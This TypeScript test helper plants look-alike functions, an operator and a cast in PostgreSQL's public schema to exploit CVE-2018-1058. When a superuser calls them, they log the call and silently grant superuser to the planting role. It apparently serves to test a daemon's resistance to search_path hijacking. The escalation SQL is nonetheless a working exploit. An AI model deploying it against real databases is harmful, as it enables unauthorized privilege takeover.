/**
 * Functions and an operator a role without privileges plants in `public` to
 * take over a superuser that calls them (CVE-2018-1058): each one does what
 * PostgreSQL's own does, logs who ran it, and when that is a superuser makes
 * its planter one. Each is a closer match than pg_catalog's for a call the
 * daemon or the control schema makes (unnest(text[]) beats unnest(anyarray),
 * format(text, bigint, …) beats format(text, VARIADIC "any")), or ties with it
 * and wins wherever public comes before pg_catalog in search_path. A cast from
 * the planter's own type needs no search_path at all.
 */
import type pg from 'pg';

export async function plantTrojans(client: pg.Client): Promise<void> {
  const planter = client.escapeIdentifier((await client.query('SELECT current_user AS u')).rows[0].u);
  await client.query(`
    CREATE TABLE public.trojan_log (fn text NOT NULL, who name NOT NULL, superuser boolean NOT NULL);
    GRANT INSERT ON public.trojan_log TO PUBLIC;
    CREATE FUNCTION public.trojan_fire(fn text) RETURNS void
    LANGUAGE plpgsql SET search_path = pg_catalog AS $$
    DECLARE
      su boolean := (SELECT r.rolsuper FROM pg_catalog.pg_roles r WHERE r.rolname = current_user);
    BEGIN
      INSERT INTO public.trojan_log VALUES (fn, current_user, su);
      IF su THEN
        EXECUTE 'ALTER ROLE ${planter.replaceAll("'", "''")} SUPERUSER';
      END IF;
    END $$;
    CREATE FUNCTION public.unnest(a text[]) RETURNS SETOF text LANGUAGE plpgsql AS $$
    BEGIN
      PERFORM public.trojan_fire('unnest');
      RETURN QUERY SELECT pg_catalog.unnest(a);
    END $$;
    CREATE FUNCTION public.format(f text, a bigint, b bigint, c bigint) RETURNS text LANGUAGE plpgsql AS $$
    BEGIN
      PERFORM public.trojan_fire('format');
      RETURN pg_catalog.format(f, a, b, c);
    END $$;
    CREATE FUNCTION public.format(f text, a text, b text) RETURNS text LANGUAGE plpgsql AS $$
    BEGIN
      PERFORM public.trojan_fire('format');
      RETURN pg_catalog.format(f, a, b);
    END $$;
    CREATE FUNCTION public.concat_ws(s text, a oid, b bigint, c bigint, d bigint) RETURNS text LANGUAGE plpgsql AS $$
    BEGIN
      PERFORM public.trojan_fire('concat_ws');
      RETURN pg_catalog.concat_ws(s, a, b, c, d);
    END $$;
    CREATE FUNCTION public.lower(a text) RETURNS text LANGUAGE plpgsql AS $$
    BEGIN
      PERFORM public.trojan_fire('lower');
      RETURN pg_catalog.lower(a);
    END $$;
    CREATE FUNCTION public.quote_ident(a text) RETURNS text LANGUAGE plpgsql AS $$
    BEGIN
      PERFORM public.trojan_fire('quote_ident');
      RETURN pg_catalog.quote_ident(a);
    END $$;
    CREATE FUNCTION public.pg_has_role(r name, o oid, p text) RETURNS boolean LANGUAGE plpgsql AS $$
    BEGIN
      PERFORM public.trojan_fire('pg_has_role');
      RETURN pg_catalog.pg_has_role(r, o, p);
    END $$;
    CREATE FUNCTION public.has_table_privilege(r name, t regclass, p text) RETURNS boolean LANGUAGE plpgsql AS $$
    BEGIN
      PERFORM public.trojan_fire('has_table_privilege');
      RETURN pg_catalog.has_table_privilege(r, t, p);
    END $$;
    CREATE FUNCTION public.oid_is(a oid, b regclass) RETURNS boolean LANGUAGE plpgsql AS $$
    BEGIN
      PERFORM public.trojan_fire('operator =');
      RETURN a OPERATOR(pg_catalog.=) b::oid;
    END $$;
    CREATE OPERATOR public.= (LEFTARG = oid, RIGHTARG = regclass, FUNCTION = public.oid_is);
    -- A type's owner may define casts from it: one the daemon's ::text[] of an enum array would run.
    CREATE TYPE public.mood AS ENUM ('calm', 'odd one');
    CREATE FUNCTION public.mood_text(m public.mood[]) RETURNS text[] LANGUAGE plpgsql AS $$
    BEGIN
      PERFORM public.trojan_fire('cast mood[] to text[]');
      RETURN ARRAY(SELECT pg_catalog.textin(pg_catalog.enum_out(x)) FROM pg_catalog.unnest(m) AS x);
    END $$;
    CREATE CAST (public.mood[] AS text[]) WITH FUNCTION public.mood_text(public.mood[]);`);
}

/** The trojans that ran, by a superuser (`true`) or by another role. */
export async function trojanFirings(client: pg.Client, superuser: boolean): Promise<string[]> {
  const { rows } = await client.query(
    'SELECT DISTINCT fn FROM public.trojan_log WHERE superuser = $1 ORDER BY fn',
    [superuser],
  );
  return rows.map((r) => r.fn);
}
